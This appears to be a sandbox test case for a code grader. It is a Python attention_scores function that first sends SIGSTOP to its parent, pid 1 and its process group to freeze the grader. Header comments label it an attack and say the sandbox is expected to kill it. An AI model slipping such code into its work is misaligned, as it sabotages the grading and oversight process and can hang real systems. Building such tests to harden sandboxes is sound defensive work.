# attack: SIGSTOP the parent, the whole process group and pid 1, so that the grader hangs forever
# layer: seccomp (signals only to itself) + pid namespace; the grader's reads have deadlines
# expect: kill
import os
import signal


def attention_scores(q, k, scale=None):
    for target in (os.getppid(), 1, 0, -1):
        try:
            os.kill(target, signal.SIGSTOP)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(0), signal.SIGSTOP)
    except OSError:
        pass
    s = 1.0 / q.shape[-1] ** 0.5 if scale is None else scale
    return q @ k.transpose(-2, -1) * s
